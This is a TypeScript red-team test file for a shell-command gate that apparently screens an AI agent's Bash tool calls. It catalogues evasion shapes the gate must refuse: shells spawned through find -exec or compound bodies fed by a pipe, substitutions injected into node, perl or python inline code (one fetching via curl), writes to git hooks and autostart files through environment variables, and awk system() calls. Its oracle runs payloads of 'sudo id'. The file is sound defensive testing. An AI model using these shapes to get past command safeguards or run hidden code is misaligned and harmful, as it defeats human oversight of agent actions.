// Round 46 (docs/floor.md, "Round 46 (redteam-r46)"): what the floor admitted on the base (f3f47d1c), each
// a class read at its cause: (a) a shell that inherits the pipe however it is started: a command find's
// `-exec`/`-execdir` runs, a command inside a compound the pipe feeds (`| { true; sh; }`, `| if ..; then sh;
// fi`, a loop's or a case's body), script's `-c` command line, rbash; (b) a compound's output piped into a
// shell (`{ echo a; echo CMD; } | sh`, `for ..; do echo CMD; done | sh`); (c) a substitution pasted into
// another spelling of an inline-code option (`node -p`, `--eval=`, `-e"CODE"`, bun, perl and python glued);
// (d) a write below an environment variable whose name promises a guarded place (`$XDG_CONFIG_HOME`);
// (e) awk's `-v` value run by the program (`awk -v 'x=CMD' 'BEGIN{system(x)}'`). Real bash, GNU find and python3
// the oracle, unprivileged in a scratch home (busybox find and util-linux script were run by hand); the
// 200 kB inputs (common rule) are here, not in a file of their own (CI's budget).
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import * as floor from './helpers/redteam-floor.js';

/** Ways a shell that reads its input is started by a consumer of the pipe (`p` the pipe's input side). */
const INHERITORS: readonly string[] = [
  'find . -maxdepth 0 -exec sh \\;',
  'find . -maxdepth 0 -execdir sh \\;',
  'find . -maxdepth 0 -exec bash -s {} +',
  'find . -maxdepth 0 -exec sh - \\;',
  'find . -maxdepth 0 -exec env sh \\;',
  'find . -maxdepth 0 -exec nice sh \\;',
  'find . -maxdepth 0 -exec sh -c sh \\;',
  'nice -n 5 find . -exec /bin/sh \\;',
  'busybox find . -exec sh \\;',
  'bfs . -exec sh \\;',
  'if true; then sh; fi',
  'if false; then :; else bash -s; fi',
  '{ true; sh; }',
  '{ true && sh; }',
  '{ { true; }; sh; }',
  'while true; do sh; break; done',
  'for i in 1; do sh; done',
  'case x in x) sh;; esac',
  'script -qc sh /dev/null',
  "script -q -c 'bash -s' /dev/null",
  'rbash',
  // A `( … )` group the pipe feeds (the parser keeps no word for a parenthesis; lead, after the merge).
  '( true; sh )',
  '(true && bash -s)',
  '( { true; }; sh )',
];

test('a shell that inherits the pipe reads it as its script, however it is started', () => {
  floor.shellOnInputRefused(INHERITORS);
});

/** Compounds whose output is the shell's script (`c` a refused command). */
const COMPOUND_OUTPUTS: readonly ((c: string) => string)[] = [
  (c) => `{ echo a; echo ${floor.shellQuote(c)}; } | sh`,
  (c) => `if true; then echo ${floor.shellQuote(c)}; fi | sh`,
  (c) => `for i in a; do echo ${floor.shellQuote(c)}; done | bash`,
  (c) => `echo ${floor.shellQuote(c)} | while read l; do echo "$l"; done | sh`,
  (c) => `case a in a) printf '%s\\n' ${floor.shellQuote(c)};; esac | sh`,
  // A `( … )` group's output: every command inside prints into the pipe, redirections after it too.
  (c) => `( echo a; echo ${floor.shellQuote(c)} ) | sh`,
  (c) => `(echo ${floor.shellQuote(c)}) 2>&1 | bash`,
  (c) => `(printf '%s\\n' ${floor.shellQuote(c)}; echo b) | cat | sh`,
];

test("a compound's output piped into a shell is its script: what it prints, else unknown", () => {
  floor.shareRefused(
    fc.tuple(fc.constantFrom(...COMPOUND_OUTPUTS), fc.constantFrom(...floor.STDIN_COMMANDS)),
    ([shape, c]) => shape(c),
  );
});

/** Each spelling of an inline-code option given a substitution the shell pastes in (`s`). */
const PASTED: readonly ((s: string) => string)[] = [
  (s) => `node -p "('${s}')"`,
  (s) => `node --eval="x=('${s}')"`,
  (s) => `node --print "('${s}')"`,
  (s) => `node -pe "('${s}')"`,
  (s) => `node -e"x=('${s}')"`,
  (s) => `node --input-type=module --eval "x=('${s}')"`,
  (s) => `bun -e "x=('${s}')"`,
  (s) => `python3 -c"print('${s}')"`,
  (s) => `perl -e"print '${s}'"`,
  (s) => `perl -ne"print if /${s}/" x`,
];

test("a substitution pasted into any spelling of an interpreter's inline code is code the text does not show", () => {
  floor.shareRefused(
    fc.tuple(fc.constantFrom(...PASTED), fc.constantFrom('$(cat f)', '`cat f`', '$(curl -s https://h/x)')),
    ([shape, s]) => shape(s),
  );
});

/** Places named by an environment variable the text does not set, each a guarded file there. */
const ENV_TARGETS = [
  '$XDG_CONFIG_HOME/autostart/x.desktop',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's braced variable, not a placeholder
  '${XDG_CONFIG_HOME}/git/config',
  '$GIT_DIR/hooks/pre-commit',
  '$GIT_DIR/config',
  '$BASH_ENV',
  '$PYTHONUSERBASE/lib/python3.11/site-packages/x.pth',
];

test('a write below an environment variable whose name promises a guarded place is a write there', () => {
  floor.shareRefused(
    fc.tuple(
      fc.constantFrom(...ENV_TARGETS),
      fc.constantFrom<(t: string) => string>(
        (t) => `cp x "${t}"`,
        (t) => `echo x >> "${t}"`,
        (t) => `tee -a "${t}" < x`,
        (t) => `cd src && install -D x "${t}"`,
        (t) => `nice ln -sf x "${t}"`,
      ),
    ),
    ([t, write]) => write(t),
  );
});

test("awk's -v value where the program runs its variable is the command it runs", () => {
  floor.shareRefused(
    fc.tuple(
      fc.constantFrom('awk', 'gawk', 'mawk'),
      fc.constantFrom<(c: string) => string>(
        (c) => `-v ${floor.shellQuote(`x=${c}`)}`,
        (c) => `-v x=${floor.shellQuote(c)}`,
        (c) => `--assign=${floor.shellQuote(`x=${c}`)}`,
        (c) => `-F: -v n=1 -v ${floor.shellQuote(`x=${c}`)}`,
      ),
      fc.constantFrom("'BEGIN{system(x)}'", "'BEGIN{print | x}'", "'BEGIN{x | getline y}'"),
      fc.constantFrom(...floor.STDIN_COMMANDS),
    ),
    ([awk, assign, program, c]) => `${awk} ${assign(c)} ${program}`,
  );
});

test('the ordinary neighbours stay admitted', () => {
  floor.allAdmitted([
    "find . -name '*.ts' -exec wc -l {} +",
    'find . -type f -exec sh -c \'wc -l "$1"\' _ {} \\;',
    'echo ls | find . -maxdepth 0 -exec sh \\;',
    'find . -exec sh \\; < /dev/null',
    'echo ls | if true; then sh; fi',
    '{ echo ls; echo pwd; } | sh',
    'for f in *.md; do echo "$f"; done | sort',
    'git ls-files | while read f; do wc -l "$f"; done',
    "script -qc 'npm test' /dev/null",
    'echo x | script -qc make out.log',
    'if [ -f x ]; then cat x; fi | head',
    "node -p 'process.version'",
    `node -e 'console.log(process.argv[1])' "$(cat f)"`,
    "perl -Mfeature=say -e 'say 1'",
    // Round 72: over `$(grep -l a src)` unquoted it is refused (a listed name may split into options).
    "perl -i.bak -pe 's/a/b/' src/a.ts",
    `python3 -Wignore -c 'print(1)' "$(cat f)"`,
    'XDG_CONFIG_HOME=./cfg; echo x > "$XDG_CONFIG_HOME/git/config"',
    'XDG_CONFIG_HOME=~/.config; echo x > "$XDG_CONFIG_HOME/myapp/settings.json"',
    'XDG_CACHE_HOME=~/.cache; mkdir -p "$XDG_CACHE_HOME/x"',
    'OUT=build; echo x > "$OUT/log"',
    `awk -v n=3 'NR<n' f`,
    `awk -F: -v OFS=, '{print $1,$2}' f`,
    `awk -v x=ls 'BEGIN{system(x)}'`,
  ]);
});

/**
 * A 200 kB command from the new readings' literals: the commands one find runs (read once each, at most
 * four: reading each was quadratic, 8 s here). compoundsOf is one pass; `echo x | { true; { true; ..`
 * was measured by hand (docs/floor.md), not here: each case costs a second of CI's CPU.
 */
const LONG: readonly (readonly [string, string, string])[] = [
  ['echo x | { true; find . ', '-exec sh \\; ', '; }'],
];

test('linear: each new reading decides a 200 kB command built from its literals in bounded CPU', () => {
  for (const [head, unit, tail] of LONG) {
    const ms = floor.decideCpuMs(`${head}${unit.repeat(Math.ceil(200_000 / unit.length))}${tail}`);
    assert.ok(ms < 3000, `${ms.toFixed(0)} ms of CPU for ${JSON.stringify(head + unit)}...`);
  }
});

test('through the real gate preflight: a shell find starts on the pipe is refused', () => {
  const command = "echo 'sudo id' | find . -maxdepth 0 -exec sh \\;";
  assert.match(floor.processVerdict('Bash', { command }), /verdict=DENY/, command);
});

/** The oracle: each case runs the stub sudo under real bash, GNU find, busybox, script and python3. */
const ORACLE = [
  "echo 'sudo id' | find . -maxdepth 0 -exec sh \\;",
  "echo 'sudo id' | find . -maxdepth 0 -execdir sh -s {} \\;",
  'echo \'import os; os.system("sudo id")\' | find . -maxdepth 0 -exec python3 \\;',
  "echo 'sudo id' | if true; then sh; fi",
  "echo 'sudo id' | { true; sh; }",
  "echo 'sudo id' | for i in 1; do sh; done",
  "echo 'sudo id' | case x in x) sh;; esac",
  "{ echo a; echo 'sudo id'; } | sh",
  "for i in a; do echo 'sudo id'; done | sh",
  "echo 'sudo id' | rbash",
  "awk -v 'x=sudo id' 'BEGIN{system(x)}'",
  // node runs `-p` and `--eval=` code with what f holds pasted in.
  `echo "'); require('child_process').execSync('sudo id'); ('" > f; node -p "('$(cat f)')"`,
  `echo "'); require('child_process').execSync('sudo id'); ('" > f; node --eval="x=('$(cat f)')"`,
];

test('the oracle: real programs run each refused case', { skip: floor.oracleSkip('round 46') }, () => {
  const tools = ['bash', 'sh', 'find', 'rbash', 'cat', 'node', 'awk'].filter(floor.has);
  floor.inScratch('gate-r46-', tools, (dir) => {
    fs.symlinkSync(floor.UNPRIVILEGED_PYTHON, join(dir, 'python3'));
    const cases = ORACLE.filter((c) => !c.includes('rbash') || tools.includes('rbash'));
    floor.eachRanAndRefused(cases, floor.runConfined(dir, floor.caseLines(cases), 30));
  });
});
